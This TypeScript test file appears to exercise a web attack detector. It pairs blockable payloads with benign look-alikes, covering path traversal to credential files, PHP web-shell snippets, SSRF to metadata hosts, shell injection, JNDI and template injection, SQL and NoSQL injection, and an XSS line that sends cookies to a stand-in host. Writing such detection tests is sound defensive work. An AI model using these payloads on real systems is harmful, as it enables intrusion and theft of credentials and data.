import { expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { createDetection } from './engine.ts';
import { readRawRequest } from './raw-request.ts';
import { asAgents, type Family, testFamilies } from './testing/families.ts';
import { createValueInspector } from './testing/value.ts';

const inspect = createValueInspector(detectors);

/** Forms of languages that collections of attacks hold and no rule knew, each family with honest values that resemble it. */
const families: readonly Family[] = [
  [
    "agents: paths, code and templates where a client's name belongs",
    asAgents([
      '../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      'Mozilla/5.0 (Linux; Android 14) ../../../../../etc/shadow',
      '..\\..\\..\\windows\\win.ini',
      '/etc/nginx/nginx.conf',
      '/var/log/nginx/error.log',
      'C:\\Windows\\win.ini',
      "<?php system($_GET['c']); ?>",
      'Mozilla/5.0 <?php eval($_POST[1]);?>',
      "#{root.process.mainModule.require('child_process').execSync('id')}",
      '#set($t=$s.getClass().forName("java.lang.Runtime"))',
    ]),
    asAgents([
      '%E9%BC%8E%E6%B3%B0%2F2.4 CFNetwork/1410.0.3 Darwin/22.6.0',
      'ExampleApp/1.0..2 (iPhone; iOS 17.5; Scale/3.00)',
      'curl/8.5.0 (../)',
      'Mozilla/5.0 (compatible; ExampleBot/2.1; +https://www.example.com/var/about.html)',
      'monitor/1.2 (/opt/monitor/agent)',
      'Example#{Lite}/3 (zh_CN) {build 7%}',
      'client <?xml/1.0?>',
    ]),
  ],
  [
    'ssrf: numbers that wrap around, characters that nobody sees, names of Chinese clouds',
    [
      'http://6425673729/',
      'http://0x37f000001/',
      'http://\u180elocalhost/',
      'http://local\u200bhost/',
      'http://metadata.jdcloud.com/',
      'http://metadata.ks3.sdns.ksyun.com/latest/',
      'http://10.2.0.9:8848/nacos/v1/auth/users',
      ['127.0.0.1:6379', { name: 'url' }],
      ['localhost:27017', { name: 'target' }],
      ['localhost', { name: 'callback_url' }],
      'dns://resolver.example/x',
      'http://localhost:443/',
      'http://localhost:00022/',
      'http://race-127.0.0.1.names.example.com/',
      'http://192.168.3.4%2fadmin',
    ],
    [
      'http://13912345678/',
      'https://www.example.com\u200b',
      'http://192.168.3.4:8848/nacos/',
      'http://127.0.0.1:2379/dashboard',
      ['localhost', { name: 'host' }],
      ['127.0.0.1:8080', { name: 'host' }],
      'http://localhost:9000/mall/goods.png',
      'http://api-1.2.3.4.example.com/',
      'http://10.2.0.9:6060&style=path',
      'metadata.example.com 打不开',
    ],
  ],
  [
    'ssrf: a host that goes on behind a sign that no name has',
    [
      'http://shop.example;.other.example',
      'https://shop.example.!.other.example/',
      'http://shop.example._.other.example',
      'http://shop.example%3a443.other.example/',
      'https://shop.example`.other.example',
    ],
    [
      'https://a-b.example.com/x_y',
      'https://shop.${region}.example.com/',
      'https://{shop}.example.com/a',
      'http://a.example.com|http://b.example.com',
      'https://*.example.com',
      'https://a.example.com/p;v=1.2/x.html',
    ],
  ],
  [
    'shell: chains that look around, and a shell that is fed',
    [
      'id && whoami',
      'ls -l; cat /etc/shadow',
      'hostname|id;',
      'ping 192.0.2.7 | cat x',
      'time whoami | sh',
      'whoami|',
      "'\nid\n'",
      'bash -c id',
      ';anything /bin/sh -p',
      '$(unheard -x /etc/shadow)',
      'a;l${IFS}-x',
      [';cp /var/log/x evil', { place: 'header', name: 'user-agent' }],
    ],
    [
      'ls -l | grep txt',
      'ps -ef | grep java',
      'cd /data && ls',
      'npm test && npm run build',
      'ping 192.0.2.7',
      'ls; 然后再看',
      'id|name|age',
    ],
  ],
  [
    'shell: programs of Windows by their file names',
    [
      '& tool.exe',
      '| C:\\temp\\x.bat',
      'regasm.exe C:\\drop\\a.dll',
      'loader.exe http://192.0.2.8/a.sct',
      '& mofcomp C:\\drop\\a.mof',
      '&& cmstp /ni /s C:\\drop\\a.inf',
    ],
    [
      'setup.exe',
      'setup.exe 双击之后没有反应',
      'notepad.exe 打不开 C:\\a.txt',
      'chrome.exe --disable-gpu',
      'chrome.exe https://www.example.com',
      'TLS；cipher suites',
      '协议; cipher suites list',
      'ls && pwd',
      'A & B.exe 两个程序',
      '请下载 https://www.example.com/setup.exe 后运行',
    ],
  ],
  [
    'shell: options that run commands',
    [
      '--checkpoint-action=exec=sh a.sh',
      'ext::sh -c id% >&2',
      '-c core.sshCommand=id',
      '-d @/etc/hosts http://192.0.2.3/',
      'import os;os.dup2(s.fileno(),0)',
    ],
    ['--output=report.txt', '-c "core.autocrlf=false"', 'import os, sys'],
  ],
  [
    'shell: a command that is too short to be looked for, under a name for one',
    [
      ['id', { name: 'cmd' }],
      ['ls', { name: 'shell' }],
      ['pwd', { name: 'exec' }],
      ['nc 192.0.2.1', { name: 'command' }],
    ],
    [
      ['id', { name: 'field' }],
      ['login', { name: 'cmd' }],
      ['open', { name: 'command' }],
      ['ping', { name: 'cmd' }],
    ],
  ],
  [
    'template: Enjoy, Velocity and FreeMarker',
    [
      '#(6*7)',
      '#((java.lang.Runtime::getRuntime()).exec("x"))',
      '#(com.acme.kit.LogKit::setLevel())',
      '#evaluate("6*7")',
      '#parse("/WEB-INF/web.xml")',
      '<#include "/etc/hosts">',
      '$!{class}',
      '${.version}',
      '{@6*7}',
      '$[[6*7]]',
      '#{ %x|id| }',
    ],
    ['#(12)', '见 #(1-2)', '#include <stdio.h>', '${version}', '第 #6*7 号', '[[6*7]]', '#parse 函数', '<#if vip>您好</#if>'],
  ],
  [
    'java: lookups, contexts and Groovy',
    [
      '${jnd${upper:\u0131}:ldap://192.0.2.5/a}',
      '${base64:JHtqbmRpOg==}',
      '${url:UTF-8:http://192.0.2.5/}',
      'new org.springframework.context.support.ClassPathXmlApplicationContext("http://192.0.2.5/x.xml")',
      '"id".execute().text',
      'T(ClassLoader).getSystemClassLoader()',
      '<insertFromJNDI env-entry-name="ldap://192.0.2.5/a" as="n"/>',
      '#this.getClass()',
    ],
    ['ClassPathXmlApplicationContext 怎么用', '${base64} 占位', 'statement.execute() 返回什么', 'base64:JHtqbmRpOg=='],
  ],
  [
    'code: Node.js, Python and PHP that reach the machine',
    [
      "require('fs').readFileSync('a')",
      "res.end(require('fs').readdirSync('.').toString())",
      'process.kill(process.pid)',
      "global['process']['mainModule']",
      '().__class__.__bases__[0].__subclasses__()',
      'die(@md5(31))',
      '_method=__construct&filter[]=system',
      's=index/\\think\\app/invokefunction&function=x',
    ],
    [
      "const fs = require('fs')",
      'process.exitCode = 1 是什么',
      'self.__class__.__name__',
      'die with me',
      '/think/app/index',
      'Python 的 __subclasses__ 讲解',
    ],
  ],
  [
    'deserialisation: the state of a page',
    ['/wEyiGEAAQAAAP////8BAAAAAAAAAAwCAAAAV1N5c3RlbS5XaW4=', '/wEyABAAAA/////wEAAAAAAAAADAIAAABXU3lz'],
    ['/wAAQAAAP', 'AAQAAAPAAAAAAAA'],
  ],
  [
    'nosql: the object of a condition is closed',
    ['db.a.insert({b:1});return 1;db.c.mapReduce(function(){', "'});db.members.drop();//", '}, { pin : /.*/ }', "'}, {'$gt':''"],
    ['}, { "name": "x" }', '{"a": 1}, {"b": 2}', 'db.members.drop 怎么恢复'],
  ],
  [
    'sql: expressions between the quotes of an application, and computed choices',
    [
      "k' - + ! 2 != + - '1",
      "k'/pin is not null - ' ",
      "k' = !!!!'0",
      "'&&CASE WHEN 4=4 THEN 0 ELSE EXP(800) END&&'",
      "p', 'q'), ('r', 's'); --",
      "4','5',(select 6))-- ",
      '0*if(now()=sysdate(),sleep(4),0)',
      'id,sleep(4)',
      'name,updatexml(1,2,3)',
      '4 rlike sleep(4)',
      "k'or 8*0",
      '12) and a = 1',
      'select 4417*8812 as id',
      ["filter[c][value][0||(SELECT 'a'::text[])]", { place: 'key' }],
      "/app/x/');select 4 into outfile 'x'#",
    ],
    [
      "'-'",
      "5' - 6'",
      "it's = fine",
      "Tom's and Jerry's",
      'case when you are ready then go to the end',
      "('a'), ('b')",
      'id,name,sleep',
      'if(now)',
      "rock 'n' roll",
      "'a' + 'b'",
      '（见 12）and a = 1',
      'select 3 of 5',
    ],
  ],
  [
    'xss: a link of Markdown to a page that it brings along, and what a page knows sent on',
    [
      "fetch('//192.0.2.1/?c='+document.cookie)",
      'Reflect.apply(alert,null,[1])',
      '[alert][0].call(null,1)',
      '(f=>f(1))(alert)',
      '(![]+[])[+!+[]]',
      '[a](data:text/html;base64,PGI+)',
      '![a](data:text/html,<b>)',
    ],
    [
      '![a](data:image/png;base64,iVBORw0KGgo=)',
      '[data:text/html 是什么](https://www.example.com/)',
      '怎么读 document.cookie',
      '[alert] 标签',
    ],
  ],
  [
    'path: the ending that a check looks at, behind a semicolon',
    [['/api/members/all;login.action', { place: 'path' }]],
    [
      ['/api/members/all', { place: 'path' }],
      ['/static/a.css', { place: 'path' }],
      ['/pages/a;v=2', { place: 'path' }],
    ],
  ],
];

testFamilies(families, inspect);

test('a style behind Chinese in a page is no comparison', () => {
  const page =
    '<p><span style="font-family:&#39;宋体&#39;,sans-serif"></span></p><p><span style="font-family:&#39;宋体&#39;,sans-serif;">1，请在三天内签收<span>。</span></span></p>';
  expect(inspect(page).action).toBe('pass');
  expect(inspect("请签收 k' > 1 or 2=2 -- ").action).toBe('block');
});

const raw = createDetection({ detectors });
const post = (contentType: string, body: string) =>
  readRawRequest({ method: 'POST', target: '/api/x', headers: ['Content-Type', contentType], body: Buffer.from(body) }, raw);

test.each([
  ['application/json', '{memberId:"4 UNION ALL SELECT NULL,NULL,pin-- "}'],
  ['text/plain', "callCount=1\nc0-id=0\nc0-param0=string:4' or 'a'='a\nbatchId=0"],
])('reads what a lenient reader makes of a broken body, %s', (contentType, body) => {
  expect(post(contentType, body).action).toBe('block');
});

test.each([
  ['application/json', '{memberId:"4", note:"union members select a table"}'],
  ['text/plain', 'name=Zhang\nnote=it is fine\ncount=4'],
])('lets a broken body without an attack pass, %s', (contentType, body) => {
  expect(post(contentType, body).findings.filter(({ class: kind }) => kind !== 'protocol')).toEqual([]);
});
